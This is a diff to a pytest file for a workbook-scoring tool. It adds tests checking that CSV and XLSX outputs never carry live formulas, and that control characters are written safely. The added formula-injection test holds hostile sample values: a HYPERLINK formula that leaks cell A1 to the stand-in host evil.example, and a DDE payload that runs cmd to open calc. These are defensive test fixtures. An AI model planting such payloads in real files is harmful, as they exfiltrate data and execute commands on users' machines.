@@ -86,7 +86,9 @@ def test_finding_1_xlsx_recorded_size_ignored(capsys: pytest.CaptureFixture[str]
     rows: list[list[Any]] = [["org_id", "minutes"], ["a", 90], ["b", 10], ["c", 95], ["d", 100]]
     path = workbook_of(rows, tmp_path / "small-dimension.xlsx")
     rewrite_member(path, SHEET, lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:B2"', xml))
-    rewrite_member(path, SHEET, lambda xml: xml.replace(b"</row></sheetData>", b'<c r="XFD5"><v>7</v></c></row></sheetData>'))
+    rewrite_member(
+        path, SHEET, lambda xml: xml.replace(b"</row></sheetData>", b'<c r="XFD5"><v>7</v></c></row></sheetData>')
+    )
     status, out, err = run(capsys, "score", rules, path, "-o", tmp_path / "r.jsonl")
     assert [r["id"] for r in jsonl_of(tmp_path / "r.jsonl")] == ["a", "b", "c"]
     assert err.splitlines() == [f"{path}:5 (d): has a value in column XFD, which has no name in the header"]
@@ -157,10 +159,82 @@ def _damage_crc(path: Path, member: str) -> None:
 
 
 @pytest.mark.parametrize("damage", DAMAGES)
-def test_finding_9_corrupt_workbooks(capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path, damage: str) -> None:
+def test_finding_9_corrupt_workbooks(
+    capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path, damage: str
+) -> None:
     path = workbook_of([["org_id", "minutes"], ["a", 90], ["b", 10]], tmp_path / "damaged.xlsx")
     DAMAGES[damage](path)
     status, _, err = run(capsys, "score", rules, path)
     assert status == 2
     assert err.startswith(f"partyrules: {path}: cannot be read as an Excel .xlsx workbook ("), err
     assert len(err.splitlines()) == 1
+
+
+# ---------------------------------------------------------------- 2. outputs that run no formula
+
+INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+LIVE_FORMULA = re.compile(rb"<(?:\w+:)?f[ >/]")
+
+
+def hostile_labels(text: str) -> str:
+    return text.replace('grade tot "Tốt"', 'grade tot "=1+1"').replace(
+        'title "Thử dữ liệu xấu"', "title \"=cmd|' /C calc'!A0\""
+    )
+
+
+def no_formula_in(path: Path) -> None:
+    with zipfile.ZipFile(path) as archive:
+        for member in archive.namelist():
+            if member.startswith("xl/worksheets/"):
+                assert not LIVE_FORMULA.search(archive.read(member)), member
+
+
+def test_finding_2_formula_injection(capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path) -> None:
+    """A formula in an id, a kept column, a column's name, a grade's label or a title reaches no output as a
+    live formula: CSV cells that a spreadsheet would run get a leading `'`; workbook cells are text."""
+    rules.write_text(hostile_labels(RULES), encoding="utf-8")
+    source = tmp_path / "d.csv"
+    rows = [["org_id", "minutes", "note", "@SUM(1)"], [INJECTED, "90", "+1+cmd", "-2+3"], ["b", "10", "-5", "\tx"]]
+    with open(source, "w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows(rows)
+    status, _, err = run(capsys, "score", rules, source, "-o", tmp_path / "r.csv")
+    assert status == 0, err
+    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as f:
+        header, first, second = list(csv.reader(f))
+    assert header[:4] == ["id", "note", "'@SUM(1)", "total"]
+    assert first[:3] == ["'" + INJECTED, "'+1+cmd", "'-2+3"]
+    assert first[4:6] == ["tot", "'=1+1"]
+    assert second[:3] == ["b", "-5", "'\tx"]  # a plain number is no formula: left as it is
+
+    status, _, err = run(capsys, "score", rules, source, "-o", tmp_path / "r.xlsx")
+    assert status == 0, err
+    no_formula_in(tmp_path / "r.xlsx")
+    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")[data.RESULTS_SHEET]
+    assert [sheet.cell(2, c).value for c in (1, 2, 3, 6)] == [INJECTED, "+1+cmd", "-2+3", "=1+1"]
+    assert sheet.cell(2, 1).data_type == "s" and sheet.cell(2, 1).quotePrefix
+
+    status, _, err = run(capsys, "render", rules, "--to", "xlsx", "-o", tmp_path / "fill.xlsx")
+    assert status == 0, err
+    no_formula_in(tmp_path / "fill.xlsx")
+    guide = openpyxl.load_workbook(tmp_path / "fill.xlsx")["Hướng dẫn"]
+    assert guide["B2"].value == "=cmd|' /C calc'!A0"
+
+
+# ---------------------------------------------------------------- 7. control characters in workbooks
+
+
+def test_finding_7_control_characters_in_workbooks(
+    capsys: pytest.CaptureFixture[str], rules: Path, tmp_path: Path
+) -> None:
+    """A control character (\\x0b) in a label or a data value is written to a workbook as its picture (␋),
+    never crashing the output."""
+    rules.write_text(RULES.replace('grade tot "Tốt"', 'grade tot "T\x0bốt"'), encoding="utf-8")
+    source = tmp_path / "d.csv"
+    source.write_text("org_id,minutes,note\r\na\x01,90,x\x1fy\r\n", encoding="utf-8")
+    status, _, err = run(capsys, "score", rules, source, "-o", tmp_path / "r.xlsx")
+    assert status == 0, err
+    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")[data.RESULTS_SHEET]
+    assert [sheet.cell(2, c).value for c in (1, 2, 5)] == ["a\u2401", "x\u241fy", "T\u240bốt"]
+    status, _, err = run(capsys, "render", rules, "--to", "xlsx", "-o", tmp_path / "fill.xlsx")
+    assert status == 0, err
+    openpyxl.load_workbook(tmp_path / "fill.xlsx")
